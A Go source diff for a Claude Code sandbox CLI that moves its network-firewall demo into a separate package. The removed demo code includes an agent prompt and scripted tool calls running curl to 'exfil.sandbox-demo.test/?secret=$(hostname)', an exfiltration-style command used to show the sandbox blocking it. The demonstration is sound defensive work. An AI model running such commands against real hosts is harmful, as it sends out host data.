@@ -1,42 +1,12 @@
 package main
 
 import (
-	"bytes"
 	"context"
-	"encoding/json"
-	"errors"
-	"fmt"
-	"io/fs"
-	"net"
-	"net/http"
-	"os"
-	"os/exec"
-	"path/filepath"
-	"slices"
-	"strings"
-	"time"
 
 	"github.com/spf13/cobra"
 
-	"github.com/org/claude-sandbox/agent/transcript"
-	"github.com/org/claude-sandbox/internal/diag"
-	"github.com/org/claude-sandbox/internal/engine"
-	"github.com/org/claude-sandbox/internal/fakeapi"
+	"github.com/org/claude-sandbox/demo"
 )
-
-// The demo's hosts. They live on a network that the demo makes, so it runs
-// without the internet and can count what really arrived.
-const (
-	demoAllowedHost = "docs.sandbox-demo.test"
-	demoDeniedHost  = "exfil.sandbox-demo.test"
-	demoDeniedAddr  = "192.0.2.1" // for documentation (RFC 5737): nobody is there
-	demoImage       = "claude-sandbox-demo:latest"
-)
-
-const demoPrompt = `Run these three commands, one after the other, and report in one sentence what each of them did:
-1. curl -sS -m 20 http://` + demoAllowedHost + `/ | tee NOTES.md
-2. curl -sS -m 20 http://` + demoDeniedHost + `/?secret=$(hostname)
-3. curl -sS -m 20 http://` + demoDeniedAddr + `/?secret=$(hostname)`
 
 func (a *app) demoCommand() *cobra.Command {
 	return &cobra.Command{
@@ -51,212 +21,23 @@ With ANTHROPIC_API_KEY set the model is real. Without it a scripted stand-in for
 the Messages API drives the same Claude Code through the same three commands.`,
 		Args: cobra.NoArgs,
 		RunE: func(cmd *cobra.Command, _ []string) error {
-			d := &demo{app: a, begin: time.Now()}
-			return d.run(cmd.Context())
+			d := &demo.Demo{Out: a.stdout, Getenv: a.getenv, Self: a.self, Run: a.call}
+			return d.Show(cmd.Context())
 		},
 	}
 }
 
-// demo is one showing. It drives the commands that a user would type.
-type demo struct {
-	app    *app
-	begin  time.Time
-	dir    string // the repository
-	engine *engine.Engine
-}
-
-func (d *demo) run(ctx context.Context) (err error) {
-	if d.engine, err = engine.Connect(ctx); err != nil {
-		return runError(err)
+// call carries out one of our own commands.
+func (a *app) call(ctx context.Context, c demo.Call) int {
+	child := *a
+	if c.Stdin != nil {
+		child.stdin = c.Stdin
 	}
-	defer d.engine.Close()
-	work, err := os.MkdirTemp("", "sandbox-demo-")
-	if err != nil {
-		return exitWith(exitInternal, err)
+	if c.Stdout != nil {
+		child.stdout = c.Stdout
 	}
-	defer func() { _ = os.RemoveAll(work) }()
-	d.dir = filepath.Join(work, "hello")
-	if err := d.makeRepository(ctx); err != nil {
-		return exitWith(exitInternal, err)
+	if c.Getenv != nil {
+		child.getenv = c.Getenv
 	}
-
-	d.title("A dev container for it, written and checked")
-	if err := d.typed(ctx, d.app, "init", "--yes", d.dir); err != nil {
-		return err
-	}
-	if err := d.typed(ctx, d.app, "validate", d.dir); err != nil {
-		return err
-	}
-	d.title("Its image, built by the engine")
-	if err := d.typed(ctx, d.app, "image", "build", d.dir, "--tag", demoImage); err != nil {
-		return err
-	}
-	return d.runAgent(ctx, work)
-}
-
-// makeRepository makes a project such as a user might have.
-func (d *demo) makeRepository(ctx context.Context) error {
-	d.title("A repository")
-	if err := os.MkdirAll(d.dir, 0o755); err != nil {
-		return err
-	}
-	if err := os.WriteFile(filepath.Join(d.dir, "README.md"), []byte("# hello\n"), 0o644); err != nil {
-		return err
-	}
-	identity := []string{"-c", "user.name=demo", "-c", "user.email=demo@sandbox-demo.test"}
-	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"commit", "-q", "-m", "Say hello"}} {
-		fmt.Fprintf(d.app.stdout, "$ git %s\n", strings.Join(args, " "))
-		cmd := exec.CommandContext(ctx, "git", append(slices.Clone(identity), args...)...)
-		cmd.Dir = d.dir
-		if out, err := cmd.CombinedOutput(); err != nil {
-			return diag.WithHint(fmt.Errorf("git %s: %w: %s", args[0], err, bytes.TrimSpace(out)), "install git")
-		}
-	}
-	return nil
-}
-
-// runAgent is the main job.
-func (d *demo) runAgent(ctx context.Context, work string) error {
-	internet, err := startDemoInternet(ctx, d.engine)
-	if err != nil {
-		return exitWith(exitNoStart, err)
-	}
-	defer internet.close(ctx)
-	if os.Geteuid() == 0 { // the agent never is root
-		if err := chownAll(d.dir, 1000); err != nil {
-			return exitWith(exitInternal, err)
-		}
-	}
-	getenv, closeAPI, err := d.modelAPI()
-	if err != nil {
-		return exitWith(exitInternal, err)
-	}
-	defer closeAPI()
-
-	var claude bytes.Buffer
-	child := *d.app
-	child.stdin, child.stdout, child.getenv = strings.NewReader(demoPrompt), &claude, getenv
-	summaryFile := filepath.Join(work, "summary.json")
-	runErr := d.typed(ctx, &child, "run", d.dir, "--output-format", "stream-json", "--image", demoImage, "--engine-network", internet.network,
-		"--allow", demoAllowedHost, "--private", demoAllowedHost, "--timeout", "5m", "--summary-file", summaryFile)
-
-	d.title("What Claude Code did")
-	if err := transcript.Print(d.app.stdout, &claude); err != nil {
-		return exitWith(exitCantWrite, err)
-	}
-	if runErr != nil {
-		return runErr
-	}
-	d.title("What arrived on the other side")
-	arrived, err := internet.arrivals(ctx)
-	if err != nil {
-		return exitWith(exitInternal, err)
-	}
-	for _, host := range []string{demoAllowedHost, demoDeniedHost} {
-		fmt.Fprintf(d.app.stdout, "%-24s %d request(s)\n", host, arrived[host])
-	}
-	if err := d.figures(ctx, summaryFile); err != nil {
-		return exitWith(exitInternal, err)
-	}
-	if arrived[demoAllowedHost] == 0 || arrived[demoDeniedHost] != 0 {
-		return exitWith(exitInternal, fmt.Errorf("the demo failed: %s must be reached and %s must not", demoAllowedHost, demoDeniedHost))
-	}
-	return nil
-}
-
-// modelAPI returns the environment that run sees: the user's own when there is
-// a key, otherwise one that leads to a scripted API on loopback.
-func (d *demo) modelAPI() (getenv func(string) string, closeAPI func(), err error) {
-	if d.app.getenv("ANTHROPIC_API_KEY") != "" || d.app.getenv("CLAUDE_CODE_OAUTH_TOKEN") != "" {
-		d.title("Claude Code in the sandbox, with the real model")
-		return d.app.getenv, func() {}, nil
-	}
-	d.title("Claude Code in the sandbox, with a SCRIPTED model (set ANTHROPIC_API_KEY for the real one)")
-	const key = "sk-ant-scripted-demo-key"
-	commands := strings.Split(demoPrompt, "\n")[1:]
-	api := &fakeapi.Server{APIKey: key, Script: fakeapi.Script{
-		Turns: []fakeapi.Turn{
-			{Text: "I fetch the documentation.", Bash: []string{strings.TrimPrefix(commands[0], "1. ")}},
-			{Text: "Now the other host.", Bash: []string{strings.TrimPrefix(commands[1], "2. ")}},
-			{Text: "And an address, without a name.", Bash: []string{strings.TrimPrefix(commands[2], "3. ")}},
-		},
-		Final: "The documentation was fetched into NOTES.md; the sandbox refused the second host and the address.",
-	}}
-	listener, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		return nil, nil, fmt.Errorf("starting the scripted API: %w", err)
-	}
-	server := &http.Server{Handler: api}
-	go func() { _ = server.Serve(listener) }()
-	env := map[string]string{"ANTHROPIC_API_KEY": key, "SBX_DEVC_UPSTREAM": "http://" + listener.Addr().String()}
-	return func(name string) string {
-		if v, ok := env[name]; ok {
-			return v
-		}
-		return d.app.getenv(name)
-	}, func() { _ = server.Close() }, nil
-}
-
-// typed runs one of our own commands as if a user had typed it.
-func (d *demo) typed(ctx context.Context, a *app, args ...string) error {
-	fmt.Fprintf(d.app.stdout, "$ sbx-devc %s\n", strings.Join(args, " "))
-	if code := a.main(ctx, args); code != exitOK {
-		return exitWith(code, nil) // the command has said why
-	}
-	return nil
-}
-
-func (d *demo) title(text string) { fmt.Fprintf(d.app.stdout, "\n── %s\n", text) }
-
-// figures prints what the README promises about speed, measured just now.
-func (d *demo) figures(ctx context.Context, summaryFile string) error {
-	data, err := os.ReadFile(summaryFile)
-	if err != nil {
-		return err
-	}
-	var summary struct{ Milliseconds map[string]int64 }
-	if err := json.Unmarshal(data, &summary); err != nil {
-		return fmt.Errorf("reading %s: %w", summaryFile, err)
-	}
-	version, err := timeVersion(ctx, d.app.self)
-	if err != nil {
-		return err
-	}
-	d.title("Figures")
-	ms := summary.Milliseconds
-	for _, f := range []struct {
-		what  string
-		value time.Duration
-		goal  string
-	}{
-		{"sbx-devc version", version, "20ms"},
-		{"containers' start to the agent's start", time.Duration(ms["startup"]) * time.Millisecond, "2s"},
-		{"of it the firewall", time.Duration(ms["firewall"]) * time.Millisecond, "150ms"},
-		{"the whole demo", time.Since(d.begin), "90s once the image is built"},
-	} {
-		fmt.Fprintf(d.app.stdout, "%-40s %8s   (goal: under %s)\n", f.what, f.value.Round(time.Millisecond), f.goal)
-	}
-	return nil
-}
-
-// timeVersion returns the median time of the program's version command.
-func timeVersion(ctx context.Context, program string) (time.Duration, error) {
-	var times []time.Duration
-	for range 5 {
-		begin := time.Now()
-		if err := exec.CommandContext(ctx, program, "version").Run(); err != nil {
-			return 0, fmt.Errorf("timing the version command: %w", err)
-		}
-		times = append(times, time.Since(begin))
-	}
-	slices.Sort(times)
-	return times[len(times)/2], nil
-}
-
-// chownAll gives dir and everything below it to uid, links themselves and not
-// what they lead to.
-func chownAll(dir string, uid int) error {
-	return filepath.WalkDir(dir, func(path string, _ fs.DirEntry, err error) error {
-		return errors.Join(err, os.Lchown(path, uid, uid))
-	})
+	return child.main(ctx, c.Args)
 }
